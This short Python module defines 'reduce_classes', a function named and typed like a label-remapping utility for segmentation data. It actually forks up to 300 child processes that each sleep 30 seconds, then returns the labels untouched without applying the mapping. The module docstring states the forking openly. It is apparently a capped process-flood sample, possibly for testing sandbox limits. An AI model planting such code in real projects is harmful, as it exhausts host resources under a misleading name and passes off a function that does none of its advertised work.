"""Forks as often as it may, at most a few hundred times."""

import os
import time


def reduce_classes(labels, mapping, *, ignore_index=255):
    for _ in range(300):
        try:
            child = os.fork()
        except OSError:
            break
        if child == 0:
            time.sleep(30)
            os._exit(0)
    return labels
